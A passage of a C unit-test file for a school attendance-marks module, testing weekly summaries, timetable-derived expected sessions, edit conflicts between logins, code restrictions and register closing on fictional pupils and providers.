/* Attendance marks on a real temporary store: the weekly summary per code
 * category, the pupils expected from the timetables, writes with version
 * conflicts between two logins, codes that may not be entered, the
 * provider's reported code, register close, the first-day absence calls,
 * and CSV import (all or nothing) and export. */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "csv.h"
#include "date.h"
#include "calendar.h"
#include "config.h"
#include "marks.h"
#include "register.h"
#include "rules.h"
#include "store.h"
#include "unit.h"

/* The week of Monday 23 November 2026: five school days in the autumn term
 * of data/terms.csv, no closure days. */
#define MON (date_from_ymd(2026, 11, 23))
#define TUE (MON + 1)
#define WED (MON + 2)
#define THU (MON + 3)
#define FRI (MON + 4)
#define SAT (MON + 5)

enum { P_FULL = 1, P_CLA, P_ENDED, P_PROPOSED, P_FUTURE, P_NONE, P_COUNT };

struct fixture {
    struct unit_fixture u; /* first: unit_teardown ends it */
    char upn[P_COUNT][14];
};

/* Two providers, six pupils:
 *   P_FULL      at provider 1, every session Monday to Friday
 *   P_CLA       looked after, at provider 2, Monday and Wednesday AM; two contacts
 *   P_ENDED     placement ended on Friday 13 November (status ended)
 *   P_PROPOSED  a proposed placement only
 *   P_FUTURE    a placement that starts on 1 December
 *   P_NONE      no placement */
static int setup(void **state)
{
    struct fixture *f = unit_fixture_new(state, sizeof *f, "marks", "tester");
    for (int i = 1; i < P_COUNT; i++)
        unit_upn(f->upn[i], "820200105", i);
    static const char *const names[P_COUNT][2] = {
        {"", ""}, {"Siân", "Jones"}, {"Llŷr", "Evans"}, {"Gwenllïan", "Pritchard"},
        {"Dafydd", "Hughes"}, {"Ffion", "Morgan"}, {"Rhys", "Williams"},
    };
    assert_int_equal(store_begin(f->u.s), AP_OK);
    unit_exec(f->u.s, "INSERT INTO school (id, name) VALUES (1, 'Ysgol y Cwm');"
              "INSERT INTO provider (id, name) VALUES (1, 'Cwm Farm'), (2, 'Tiwtora Tutors');");
    for (int i = 1; i < P_COUNT; i++)
        unit_exec(f->u.s,
            "INSERT INTO pupil (id, upn, legal_forename, legal_surname, dob, home_school_id, roll_status, cohort, cla) "
            "VALUES (%d, '%s', '%s', '%s', '2012-03-14', 1, 'dual_prs', 'pru_plus', %d)",
            i, f->upn[i], names[i][0], names[i][1], i == P_CLA);
    unit_exec(f->u.s,
        "INSERT INTO placement (id, pupil_id, provider_id, status, start_date, end_date, cost_basis, rate) VALUES "
        "(1, %d, 1, 'active', '2026-09-03', NULL, 'session', 5000),"
        "(2, %d, 2, 'active', '2026-09-03', NULL, 'session', 5000),"
        "(3, %d, 1, 'ended', '2026-09-03', '2026-11-13', 'session', 5000),"
        "(4, %d, 1, 'proposed', '2026-09-03', NULL, 'session', 5000),"
        "(5, %d, 2, 'active', '2026-12-01', NULL, 'session', 5000)",
        P_FULL, P_CLA, P_ENDED, P_PROPOSED, P_FUTURE);
    for (int pl = 1; pl <= 5; pl++)
        for (int wd = 0; wd < 5; wd++)
            for (int sess = 0; sess < 2; sess++)
                if (pl != 2 || ((wd == 0 || wd == 2) && sess == 0))
                    unit_exec(f->u.s, "INSERT INTO placement_session (placement_id, weekday, session, hours) VALUES (%d, %d, '%s', 2.5)",
                        pl, wd, sess ? "pm" : "am");
    unit_exec(f->u.s,
        "INSERT INTO contact (pupil_id, priority, name, relationship, phone) VALUES "
        "(%d, 2, 'Mair Evans', 'Nain', '01234 222222'), (%d, 1, 'Cerys Evans', 'Foster carer', '01234 111111')",
        P_CLA, P_CLA);
    assert_int_equal(store_commit(f->u.s), AP_OK);
    return 0;
}

/* Another login on the same store, added with role, then opened. */
static struct store *open_as(struct fixture *f, const char *login, const char *role)
{
    return unit_open_as(f->u.s, f->u.path, login, role);
}

static ap_status mark(struct store *s, int64_t pupil, int day, enum session sess, char code,
                      enum mark_source source, int64_t expected, struct mark *out)
{
    struct mark_input in = {.pupil_id = pupil, .day = day, .session = sess, .code = code, .source = source};
    return marks_set(s, &in, expected, out);
}

/* APTERM_TEST_SHOW=1 prints every message checked, to read their wording. */
static void assert_contains(const char *text, const char *part)
{
    if (getenv("APTERM_TEST_SHOW"))
        fprintf(stderr, "# %s\n", text);
    if (!strstr(text, part))
        fail_msg("\"%s\" does not contain \"%s\"", text, part);
}

static int64_t mark_count(struct store *s)
{
    return unit_int(s, "SELECT count(*) FROM attendance_mark");
}

/* ---- the weekly summary ---- */

static void test_attendance_per_category(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, '/', SOURCE_PHONE, 0, &m), AP_OK);   /* present */
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_PM, '\\', SOURCE_PHONE, 0, &m), AP_OK);  /* present */
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_AM, 'B', SOURCE_PHONE, 0, &m), AP_OK);   /* aea */
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_PM, 'I', SOURCE_PHONE, 0, &m), AP_OK);   /* authorised */
    assert_int_equal(mark(f->u.s, P_FULL, WED, SESSION_AM, 'O', SOURCE_OFFICER, 0, &m), AP_OK); /* unauthorised */
    assert_int_equal(mark(f->u.s, P_FULL, WED, SESSION_PM, 'N', SOURCE_OFFICER, 0, &m), AP_OK); /* unauthorised */
    assert_int_equal(mark(f->u.s, P_FULL, THU, SESSION_AM, 'D', SOURCE_OFFICER, 0, &m), AP_OK); /* not counted */
#define WEEK(col) unit_int(f->u.s, "SELECT " col " FROM attendance_week WHERE pupil_id = 1 AND week = %d", MON)
    assert_int_equal(WEEK("possible"), 6);
    assert_int_equal(WEEK("attending"), 3);
    assert_int_equal(WEEK("authorised"), 1);
    assert_int_equal(WEEK("unauthorised"), 2);

    /* The percentage from the week's counts: 3 attending of 6 possible. */
    struct attendance_tally t = {0};
    t.n[CAT_PRESENT] = (int)WEEK("attending");
    t.n[CAT_AUTHORISED] = (int)WEEK("authorised");
    t.n[CAT_UNAUTHORISED] = (int)WEEK("unauthorised");
    double pct = 0;
    assert_true(rules_attendance_pct(&t, &pct));
    assert_true(pct > 49.99 && pct < 50.01);

    /* A correction moves the counts: the D becomes a present mark. */
    assert_int_equal(marks_get(f->u.s, P_FULL, THU, SESSION_AM, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, THU, SESSION_AM, '/', SOURCE_OFFICER, m.version, &m), AP_OK);
    assert_int_equal(WEEK("possible"), 7);
    assert_int_equal(WEEK("attending"), 4);
#undef WEEK

    /* The codes keep their categories. */
    struct code_set codes;
    assert_int_equal(codes_load(f->u.s, &codes), AP_OK);
    assert_int_equal(codes_find(&codes, 'B')->category, CAT_AEA);
    assert_int_equal(codes_find(&codes, 'D')->category, CAT_NOT_COUNTED);
    assert_int_equal(codes_find(&codes, 'N')->category, CAT_UNAUTHORISED);
    assert_int_equal(codes_find(&codes, '/')->category, CAT_PRESENT);
    assert_null(codes_find(&codes, 'K')); /* Wales has no K */
    codes_free(&codes);
}

/* ---- expected sessions ---- */

static bool has_expected(const struct expected *e, size_t n, int64_t pupil, enum session sess, int64_t provider)
{
    for (size_t i = 0; i < n; i++)
        if (e[i].pupil_id == pupil && e[i].session == sess)
            return e[i].provider_id == provider;
    return false;
}

static void test_expected_from_timetables(void **state)
{
    struct fixture *f = *state;
    struct expected *e = NULL;
    size_t n = 0;
    /* Monday: P_FULL both sessions, P_CLA in the morning; nobody else. */
    assert_int_equal(marks_expected(f->u.s, MON, &e, &n), AP_OK);
    assert_int_equal(n, 3);
    assert_true(has_expected(e, n, P_FULL, SESSION_AM, 1));
    assert_true(has_expected(e, n, P_FULL, SESSION_PM, 1));
    assert_true(has_expected(e, n, P_CLA, SESSION_AM, 2));
    assert_true(e[0].hours > 2.49 && e[0].hours < 2.51);
    free(e);
    /* Tuesday: P_CLA is not timetabled. */
    assert_int_equal(marks_expected(f->u.s, TUE, &e, &n), AP_OK);
    assert_int_equal(n, 2);
    assert_false(has_expected(e, n, P_CLA, SESSION_AM, 2));
    free(e);
    assert_int_equal(marks_expected(f->u.s, WED, &e, &n), AP_OK);
    assert_int_equal(n, 3);
    free(e);
    /* The ended placement counts for the days it ran, not after. */
    assert_int_equal(marks_expected(f->u.s, date_from_ymd(2026, 11, 9), &e, &n), AP_OK);
    assert_true(has_expected(e, n, P_ENDED, SESSION_AM, 1));
    assert_false(has_expected(e, n, P_PROPOSED, SESSION_AM, 1));
    free(e);
    /* From 1 December the future placement runs. */
    assert_int_equal(marks_expected(f->u.s, date_from_ymd(2026, 12, 1), &e, &n), AP_OK);
    assert_true(has_expected(e, n, P_FUTURE, SESSION_PM, 2));
    free(e);
    /* Not a school day: nobody. */
    assert_int_equal(marks_expected(f->u.s, SAT, &e, &n), AP_OK);
    assert_int_equal(n, 0);
    assert_null(e);
    assert_int_equal(marks_expected(f->u.s, date_from_ymd(2026, 10, 26), &e, &n), AP_OK); /* half term */
    assert_int_equal(n, 0);
    assert_int_equal(marks_expected(f->u.s, date_from_ymd(2026, 8, 10), &e, &n), AP_OK);  /* summer holiday */
    assert_int_equal(n, 0);
}

/* The week's sessions as marks_expected_week gives them, kept in order. */
struct week_list {
    struct expected e[64];
    size_t n;
};

static bool keep_expected(void *ctx, const struct expected *e)
{
    struct week_list *w = ctx;
    if (w->n == sizeof w->e / sizeof w->e[0])
        return false;
    w->e[w->n++] = *e;
    return true;
}

/* The provider of the pupil's entry for the day and session in the week's
 * list; 0 when there is none. */
static int64_t week_provider(const struct expected *e, size_t n, int64_t pupil, int day, enum session sess)
{
    for (size_t i = 0; i < n; i++)
        if (e[i].pupil_id == pupil && e[i].day == day && e[i].session == sess)
            return e[i].provider_id;
    return 0;
}

/* The grid's week in one read: the same pupils, sessions and providers as
 * marks_expected day by day, with placements that start, end or overlap
 * inside the week, at and either side of each boundary. */
static void test_expected_week(void **state)
{
    struct fixture *f = *state;
    assert_int_equal(store_begin(f->u.s), AP_OK);
    /* P_NONE joins on Wednesday (AM every day); P_PROPOSED's ended placement
     * runs to Tuesday; P_ENDED has another one ending on Monday and one that
     * ended on the Sunday before; P_CLA starts at provider 1 on Thursday
     * (overlapping provider 2's, which keeps Monday and Wednesday); P_FULL
     * has a second placement starting the same day as the first, at provider
     * 2, on Friday PM only (the higher id wins the tie). */
    unit_exec(f->u.s,
        "INSERT INTO placement (id, pupil_id, provider_id, status, start_date, end_date, cost_basis, rate) VALUES "
        "(6, %d, 2, 'active', '2026-11-25', NULL, 'session', 5000),"
        "(7, %d, 2, 'ended', '2026-09-03', '2026-11-24', 'session', 5000),"
        "(8, %d, 2, 'ended', '2026-09-03', '2026-11-23', 'session', 5000),"
        "(9, %d, 2, 'ended', '2026-11-16', '2026-11-22', 'session', 5000),"
        "(10, %d, 1, 'active', '2026-11-26', NULL, 'session', 5000),"
        "(11, %d, 2, 'active', '2026-09-03', NULL, 'session', 5000)",
        P_NONE, P_PROPOSED, P_ENDED, P_ENDED, P_CLA, P_FULL);
    for (int wd = 0; wd < 5; wd++) {
        unit_exec(f->u.s, "INSERT INTO placement_session (placement_id, weekday, session, hours) VALUES "
                  "(6, %d, 'am', 3), (7, %d, 'am', 3), (8, %d, 'pm', 3), (9, %d, 'am', 3), (10, %d, 'am', 3)",
                  wd, wd, wd, wd, wd);
    }
    unit_exec(f->u.s, "INSERT INTO placement_session (placement_id, weekday, session, hours) VALUES (11, 4, 'pm', 1.5)");
    assert_int_equal(store_commit(f->u.s), AP_OK);

    struct calendar cal;
    assert_int_equal(calendar_load(f->u.s, &cal), AP_OK);
    struct week_list week = {.n = 0};
    assert_int_equal(marks_expected_week(f->u.s, &cal, MON, keep_expected, &week), AP_OK);
    const struct expected *w = week.e;
    size_t nw = week.n;
    /* At and either side of each boundary: the provider of each day Monday
     * to Friday ('0': no entry) of a pupil's session. */
    const struct {
        int64_t pupil;
        enum session session;
        const char *week, *why;
    } at[] = {
        {P_NONE, SESSION_AM, "00222", "joins on Wednesday: not Tuesday, from Wednesday"},
        {P_PROPOSED, SESSION_AM, "22000", "ends on Tuesday: Tuesday, not Wednesday"},
        {P_ENDED, SESSION_PM, "20000", "ends on Monday: Monday only"},
        {P_ENDED, SESSION_AM, "00000", "ended the Sunday before: never"},
        {P_CLA, SESSION_AM, "20211", "overlap: the latest-starting placement from Thursday, the other before"},
        {P_FULL, SESSION_PM, "11112", "same start: the higher id"},
    };
    for (size_t i = 0; i < sizeof at / sizeof at[0]; i++)
        for (int d = 0; d < 5; d++) {
            int64_t got = week_provider(w, nw, at[i].pupil, MON + d, at[i].session);
            if (got != at[i].week[d] - '0')
                fail_msg("%s: day %d of \"%s\" is provider %lld", at[i].why, d + 1, at[i].week, (long long)got);
        }
    /* Pupil order, then day, then AM before PM. */
    for (size_t i = 1; i < nw; i++) {
        const struct expected *a = &w[i - 1], *b = &w[i];
        assert_true(a->pupil_id < b->pupil_id ||
                    (a->pupil_id == b->pupil_id && (a->day < b->day || (a->day == b->day && a->session < b->session))));
    }
    /* Day by day, exactly what marks_expected says. */
    size_t total = 0;
    for (int day = MON; day <= FRI; day++) {
        struct expected *e = NULL;
        size_t n = 0;
        assert_int_equal(marks_expected(f->u.s, day, &e, &n), AP_OK);
        total += n;
        for (size_t i = 0; i < n; i++) {
            assert_int_equal(e[i].day, day);
            assert_int_equal(week_provider(w, nw, e[i].pupil_id, day, e[i].session), e[i].provider_id);
        }
        free(e);
    }
    assert_int_equal(total, nw);
    /* Half term: nobody all week. */
    week.n = 0;
    assert_int_equal(marks_expected_week(f->u.s, &cal, date_from_ymd(2026, 10, 26), keep_expected, &week), AP_OK);
    assert_int_equal(week.n, 0);
    /* A caller that stops (out of memory) is told so. */
    struct week_list small = {.n = sizeof small.e / sizeof small.e[0]};
    assert_int_equal(marks_expected_week(f->u.s, &cal, MON, keep_expected, &small), AP_ERR_NOMEM);
    calendar_free(&cal);
}

/* ---- writes, conflicts and the audit ---- */

static void test_conflict_with_another_login(void **state)
{
    struct fixture *f = *state;
    struct store *bob = open_as(f, "bob", "officer");
    struct mark seen, m;
    /* Both see an empty cell; bob marks it first. */
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &seen), AP_OK);
    assert_int_equal(seen.version, 0);
    assert_int_equal(mark(bob, P_FULL, MON, SESSION_AM, '/', SOURCE_PHONE, 0, &m), AP_OK);
    assert_int_equal(m.version, 1);
    assert_string_equal(m.updated_by, "bob");
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'O', SOURCE_OFFICER, seen.version, NULL), AP_ERR_CONFLICT);
    assert_contains(ap_error_detail(), "bob");
    assert_contains(ap_error_detail(), "/");
    assert_contains(ap_error_detail(), "2026-11-23 AM is already marked /");
    /* bob's mark is untouched. */
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "/");
    assert_string_equal(m.updated_by, "bob");
    /* A stale version is refused too, naming bob; the current one is accepted. */
    struct mark v1 = m;
    assert_int_equal(mark(bob, P_FULL, MON, SESSION_AM, 'B', SOURCE_PHONE, v1.version, &m), AP_OK);
    assert_int_equal(m.version, 2);
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'I', SOURCE_OFFICER, v1.version, NULL), AP_ERR_CONFLICT);
    assert_contains(ap_error_detail(), "bob");
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'I', SOURCE_OFFICER, m.version, &m), AP_OK);
    assert_int_equal(m.version, 3);
    assert_string_equal(m.updated_by, "tester");
    /* A mark cleared by bob meanwhile is a conflict too. */
    assert_int_equal(marks_clear(bob, P_FULL, MON, SESSION_AM, m.version), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'O', SOURCE_OFFICER, m.version, NULL), AP_ERR_CONFLICT);
    assert_contains(ap_error_detail(), "bob");
    /* Every change is in the audit log under the mark's key. */
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM audit_log WHERE tbl = 'attendance_mark' AND row_key = '%d/%d/am'",
                               P_FULL, MON),
                     4);
    store_close(bob);
}

static void test_expected_version_zero_when_marked(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    int64_t before_audit = unit_int(f->u.s, "SELECT count(*) FROM audit_log");
    assert_int_equal(mark(f->u.s, P_CLA, MON, SESSION_AM, '/', SOURCE_EMAIL, 0, &m), AP_OK);
    assert_int_equal(m.version, 1);
    assert_int_equal(m.provider_id, 2); /* from the placement of that weekday and session */
    assert_int_equal(strlen(m.updated_at), 19);
    assert_string_equal(m.updated_by, "tester");
    assert_int_equal(m.source, SOURCE_EMAIL);
    /* "I saw no mark" when there is one: refused, naming who set it. */
    assert_int_equal(mark(f->u.s, P_CLA, MON, SESSION_AM, 'O', SOURCE_OFFICER, 0, NULL), AP_ERR_CONFLICT);
    assert_contains(ap_error_detail(), "tester");
    assert_int_equal(marks_get(f->u.s, P_CLA, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "/");
    assert_int_equal(m.version, 1);
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM audit_log"), before_audit + 1);
    /* Version 1 seen: the update raises it to 2, with a note. */
    struct mark_input in = {.pupil_id = P_CLA, .day = MON, .session = SESSION_AM, .code = 'L',
                            .source = SOURCE_OFFICER, .note = "arrived 9:20, taxi late"};
    assert_int_equal(marks_set(f->u.s, &in, 1, &m), AP_OK);
    assert_int_equal(m.version, 2);
    assert_string_equal(m.note, "arrived 9:20, taxi late");
    /* A NULL note keeps it. */
    in.note = NULL;
    in.code = '/';
    assert_int_equal(marks_set(f->u.s, &in, 2, &m), AP_OK);
    assert_string_equal(m.note, "arrived 9:20, taxi late");
    /* A note too long for the field is refused, not cut. */
    char long_note[300];
    memset(long_note, 'x', sizeof long_note - 1);
    long_note[sizeof long_note - 1] = '\0';
    in.note = long_note;
    assert_int_equal(marks_set(f->u.s, &in, 3, &m), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "Note");
    /* An unknown pupil is named. */
    assert_int_equal(mark(f->u.s, 999, MON, SESSION_AM, '/', SOURCE_OFFICER, 0, NULL), AP_ERR_NOT_FOUND);
    assert_contains(ap_error_detail(), "999");
}

static void test_clear(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_PM, 'O', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_int_equal(unit_int(f->u.s, "SELECT unauthorised FROM attendance_week WHERE pupil_id = 1 AND week = %d", MON), 1);
    /* Not the version seen: refused, the mark stays. */
    assert_int_equal(marks_clear(f->u.s, P_FULL, TUE, SESSION_PM, 0), AP_ERR_CONFLICT);
    assert_int_equal(marks_clear(f->u.s, P_FULL, TUE, SESSION_PM, 7), AP_ERR_CONFLICT);
    assert_int_equal(mark_count(f->u.s), 1);
    assert_int_equal(marks_clear(f->u.s, P_FULL, TUE, SESSION_PM, m.version), AP_OK);
    assert_int_equal(mark_count(f->u.s), 0);
    assert_int_equal(marks_get(f->u.s, P_FULL, TUE, SESSION_PM, &m), AP_OK);
    assert_int_equal(m.version, 0);
    assert_int_equal(unit_int(f->u.s, "SELECT possible + unauthorised FROM attendance_week WHERE pupil_id = 1 AND week = %d", MON),
                     0);
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM audit_log WHERE tbl = 'attendance_mark' AND action = 'delete'"), 1);
    /* Nothing there and nothing seen: nothing to do. */
    assert_int_equal(marks_clear(f->u.s, P_FULL, TUE, SESSION_PM, 0), AP_OK);
}

static void test_codes_that_cannot_be_entered(void **state)
{
    struct fixture *f = *state;
    /* Not in the set: named. */
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'Q', SOURCE_OFFICER, 0, NULL), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "\"Q\"");
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'K', SOURCE_OFFICER, 0, NULL), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "K");
    /* Retired: readable, not enterable; the message names the code and the date. */
    unit_exec(f->u.s, "UPDATE attendance_code SET valid_to = '2024-08-31' WHERE code_set = 'wales' AND code = 'H'");
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, 'H', SOURCE_OFFICER, 0, NULL), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "H was retired on 2024-08-31");
    struct code_set codes;
    assert_int_equal(codes_load(f->u.s, &codes), AP_OK);
    const struct code_info *h = codes_find(&codes, 'H');
    assert_non_null(h);
    assert_int_equal(h->valid_to, date_from_ymd(2024, 8, 31));
    char why[256];
    assert_false(codes_enterable(h, MON, ROLE_OFFICER, why, sizeof why));
    assert_contains(why, "2024-08-31");
    assert_true(codes_enterable(h, date_from_ymd(2024, 6, 3), ROLE_OFFICER, why, sizeof why));
    assert_string_equal(why, "");
    /* Not for every role: X is the admin's; viewers enter nothing. */
    const struct code_info *x = codes_find(&codes, 'X');
    assert_false(codes_enterable(x, MON, ROLE_OFFICER, why, sizeof why));
    assert_contains(why, "X");
    assert_true(codes_enterable(x, MON, ROLE_ADMIN, why, sizeof why));
    assert_false(codes_enterable(codes_find(&codes, '/'), MON, ROLE_VIEWER, why, sizeof why));
    codes_free(&codes);
    struct store *bob = open_as(f, "bob", "officer");
    assert_int_equal(mark(bob, P_FULL, MON, SESSION_AM, 'X', SOURCE_OFFICER, 0, NULL), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "X");
    store_close(bob);
    struct store *vic = open_as(f, "vic", "viewer");
    assert_int_equal(mark(vic, P_FULL, MON, SESSION_AM, '/', SOURCE_OFFICER, 0, NULL), AP_ERR_DENIED);
    store_close(vic);
    /* Not a school day: a Saturday, a closure day, a holiday. */
    assert_int_equal(mark(f->u.s, P_FULL, SAT, SESSION_AM, '/', SOURCE_OFFICER, 0, NULL), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "Saturday");
    assert_int_equal(mark(f->u.s, P_FULL, date_from_ymd(2026, 10, 26), SESSION_AM, '/', SOURCE_OFFICER, 0, NULL),
                     AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "Half-term");
    assert_int_equal(mark(f->u.s, P_FULL, date_from_ymd(2026, 8, 10), SESSION_AM, '/', SOURCE_OFFICER, 0, NULL),
                     AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "not a school day");
    assert_int_equal(mark_count(f->u.s), 0);
}

static void test_present_code_follows_the_session(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_PM, '/', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_string_equal(m.code, "\\");
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_AM, '\\', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_string_equal(m.code, "/");
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_PM, '\\', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_string_equal(m.code, "\\");
}

static void test_reported_code_kept(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    /* The provider rings: B. */
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_AM, 'B', SOURCE_PHONE, 0, &m), AP_OK);
    assert_string_equal(m.reported_code, "");
    assert_int_equal(m.provider_id, 1);
    /* The officer corrects it to I: the provider's B is kept beside it. */
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_AM, 'I', SOURCE_OFFICER, m.version, &m), AP_OK);
    assert_string_equal(m.code, "I");
    assert_string_equal(m.reported_code, "B");
    assert_int_equal(m.source, SOURCE_OFFICER);
    /* ... and through later changes, by a call too. */
    assert_int_equal(mark(f->u.s, P_FULL, TUE, SESSION_AM, 'M', SOURCE_CALL, m.version, &m), AP_OK);
    assert_string_equal(m.reported_code, "B");
    /* An officer's own marks have no reported code. */
    assert_int_equal(mark(f->u.s, P_FULL, WED, SESSION_AM, 'O', SOURCE_OFFICER, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, WED, SESSION_AM, 'I', SOURCE_OFFICER, m.version, &m), AP_OK);
    assert_string_equal(m.reported_code, "");
    /* The officer confirming the provider's own code keeps none either. */
    assert_int_equal(mark(f->u.s, P_FULL, THU, SESSION_AM, '/', SOURCE_PORTAL, 0, &m), AP_OK);
    assert_int_equal(mark(f->u.s, P_FULL, THU, SESSION_AM, '/', SOURCE_OFFICER, m.version, &m), AP_OK);
    assert_string_equal(m.reported_code, "");
    /* An explicit provider is kept. */
    struct mark_input in = {.pupil_id = P_FULL, .day = FRI, .session = SESSION_AM, .code = '/',
                            .provider_id = 2, .source = SOURCE_OFFICER};
    assert_int_equal(marks_set(f->u.s, &in, 0, &m), AP_OK);
    assert_int_equal(m.provider_id, 2);
    in.provider_id = 77;
    in.session = SESSION_PM;
    assert_int_equal(marks_set(f->u.s, &in, 0, &m), AP_ERR_NOT_FOUND);
}

/* ---- register close ---- */

static void test_register_close(void **state)
{
    struct fixture *f = *state;
    struct mark m;
    assert_int_equal(mark(f->u.s, P_FULL, MON, SESSION_AM, '/', SOURCE_PHONE, 0, &m), AP_OK);
    int marked = -1;
    assert_int_equal(marks_close_register(f->u.s, MON, SESSION_AM, &marked), AP_OK);
    assert_int_equal(marked, 1); /* only P_CLA was expected and unmarked */
    assert_int_equal(marks_get(f->u.s, P_CLA, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "N");
    assert_int_equal(m.source, SOURCE_OFFICER);
    assert_string_equal(m.note, "register closed");
    assert_int_equal(m.provider_id, 2);
    assert_string_equal(m.updated_by, "tester");
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "/"); /* untouched */
    assert_int_equal(m.version, 1);
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM attendance_mark WHERE pupil_id NOT IN (%d, %d)", P_FULL, P_CLA), 0);
    /* Idempotent. */
    assert_int_equal(marks_close_register(f->u.s, MON, SESSION_AM, &marked), AP_OK);
    assert_int_equal(marked, 0);
    assert_int_equal(mark_count(f->u.s), 2);
    /* The afternoon: only P_FULL is timetabled. */
    assert_int_equal(marks_close_register(f->u.s, MON, SESSION_PM, &marked), AP_OK);
    assert_int_equal(marked, 1);
    assert_int_equal(marks_get(f->u.s, P_FULL, MON, SESSION_PM, &m), AP_OK);
    assert_string_equal(m.code, "N");
    assert_int_equal(marks_get(f->u.s, P_CLA, MON, SESSION_PM, &m), AP_OK);
    assert_int_equal(m.version, 0);
    /* Not on a day that is not a school day. */
    assert_int_equal(marks_close_register(f->u.s, SAT, SESSION_AM, &marked), AP_ERR_INVALID);
    assert_contains(ap_error_detail(), "Saturday");
    /* A viewer cannot close it. */
    struct store *vic = open_as(f, "vic", "viewer");
    assert_int_equal(marks_close_register(vic, TUE, SESSION_AM, &marked), AP_ERR_DENIED);
    store_close(vic);
    assert_int_equal(mark_count(f->u.s), 3);
}

/* ---- the register closes by itself (marks_close_due) ---- */

#define AT(h, m) ((h) * 3600 + (m) * 60)
enum { CLOSE_AM = 9 * 60 + 30, CLOSE_PM = 13 * 60 + 45 };

/* Calls the rule; returns how many registers it closed, the first in *first. */
static int close_due(struct store *s, int day, int now, struct register_closed *first)
{
    struct register_closed out[2] = {{0}};
    int n = -1;
    assert_int_equal(marks_close_due(s, day, now, CLOSE_AM, CLOSE_PM, out, &n), AP_OK);
    if (first)
        *first = out[0];
    return n;
}

static int64_t closures(struct store *s) { return unit_int(s, "SELECT count(*) FROM register_close"); }

static void test_register_close_boundaries(void **state)
{
    struct fixture *f = *state;
    struct register_closed c;
    /* Monday AM: P_FULL and P_CLA expected, neither marked. */
    assert_int_equal(close_due(f->u.s, MON, AT(9, 29), &c), 0); /* a minute before */
    assert_int_equal(close_due(f->u.s, MON, AT(9, 29) + 59, &c), 0);
    assert_int_equal(mark_count(f->u.s), 0);
    assert_int_equal(closures(f->u.s), 0);
    assert_int_equal(close_due(f->u.s, MON, AT(9, 30), &c), 1); /* at */
    assert_int_equal(c.session, SESSION_AM);
    assert_int_equal(c.marked, 2);
    assert_int_equal(mark_count(f->u.s), 2);
    struct mark m;
    assert_int_equal(marks_get(f->u.s, P_CLA, MON, SESSION_AM, &m), AP_OK);
    assert_string_equal(m.code, "N");
    assert_string_equal(m.note, "register closed");
    assert_int_equal(close_due(f->u.s, MON, AT(9, 31), &c), 0); /* after: once only */
    assert_int_equal(mark_count(f->u.s), 2);
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM register_close WHERE day = '2026-11-23' AND session = 'am' "
                                     "AND how = 'automatic' AND marked = 2 AND closed_by = 'tester'"),
                     1);
    /* Audited: the closure and each N. */
    assert_int_equal(unit_int(f->u.s, "SELECT count(*) FROM audit_log WHERE tbl = 'register_close' AND action = 'insert' "
                                     "AND row_key LIKE '2026-11-23%%am' AND login = 'tester'"),
                     1);
    /* The afternoon: only P_FULL is timetabled. */
    assert_int_equal(close_due(f->u.s, MON, AT(13, 44), &c), 0);
    assert_int_equal(close_due(f->u.s, MON, AT(13, 45), &c), 1);
    assert_int_equal(c.session, SESSION_PM);
    assert_int_equal(c.marked, 1);
    assert_int_equal(close_due(f->u.s, MON, AT(13, 46), &c), 0);
    assert_int_equal(close_due(f->u.s, MON, AT(23, 59), &c), 0);
    assert_int_equal(mark_count(f->u.s), 3);
    /* Both at once, AM first, when nothing ran all day; a pupil already
     * marked keeps the mark. */
    assert_int_equal(mark(f->u.s, P_FULL, WED, SESSION_AM, '/', SOURCE_PHONE, 0, &m), AP_OK);
    struct register_closed both[2];
    int n = 0;
